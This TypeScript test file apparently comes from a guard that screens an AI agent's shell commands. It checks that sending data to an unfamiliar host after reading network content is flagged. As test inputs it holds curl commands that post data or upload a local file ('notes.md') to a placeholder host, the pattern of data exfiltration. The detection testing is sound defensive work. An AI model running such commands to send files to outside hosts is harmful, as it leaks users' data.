/** Where data goes after content from the network was read. */
import { expect, test } from 'vitest';

import { assess } from '../../../../daemon/engine/assess.ts';
import { answerFor } from '../../../../daemon/policy/decision-test-facts.ts';
import type { Action } from '../../../../protocol/action.ts';
import { factKey, type FactNeed, type FactValue } from '../../../../protocol/facts.ts';
import { verifies } from '../../../helpers/verifies.ts';
import { CWD, DEFAULT } from './fixtures.ts';

const PACKAGE = '{ "homepage": "https://docs.shop.example", "api": "https://api.shop.example:8443/v1" }';

function answer(need: FactNeed, fetched: readonly string[]): FactValue {
  if (need.kind === 'session') return answerFor({ need, data: { fetched } });
  if (need.kind === 'repo') return answerFor({ need, data: { root: CWD, remotes: [{ name: 'origin', url: 'git@git.shop.example:a/b.git' }] } }); // prettier-ignore
  if (need.kind === 'text') return answerFor({ need, data: { text: need.path === `${CWD}/package.json` ? PACKAGE : '' } }); // prettier-ignore
  return answerFor({ need });
}

function rules(command: string, fetched: readonly string[]): readonly string[] {
  const action: Action = { kind: 'exec', argv: command.split(' '), cwd: CWD, env: {}, agent: 'a', session: 's', stdin: 'null' }; // prettier-ignore
  const facts = new Map<string, FactValue>();
  for (;;) {
    const result = assess(action, facts, DEFAULT, { sql: () => null });
    if (result.kind === 'assessed') return result.assessment.findings.map(({ rule }) => rule);
    for (const need of result.needs) facts.set(factKey(need), answer(need, fetched));
  }
}

const post = (host: string): string => `curl -X POST https://${host}/in -d x`;

test(verifies('judge:strangers'), () => {
  const read = ['blog.example.org'];
  expect(rules(post('in.example.net'), read)).toContain('network.send/stranger');
  expect(rules('curl -T notes.md https://in.example.net/', read)).toContain('network.upload/stranger');
  // Named by the project, read from before, or at home.
  for (const host of [
    'api.shop.example',
    'docs.shop.example',
    'git.shop.example',
    'blog.example.org',
    'localhost:3000',
  ])
    expect(rules(post(host), read), host).not.toContain('network.send/stranger');
  // A part of a name that is known is another host.
  for (const host of ['shop.example', 'xapi.shop.example', 'api.shop.example.net'])
    expect(rules(post(host), read), host).toContain('network.send/stranger');
  // Nothing was read that could have named it, or nothing is sent.
  expect(rules(post('in.example.net'), [])).not.toContain('network.send/stranger');
  expect(rules('curl https://api.example.net/', read)).toEqual(['network.fetch']);
});
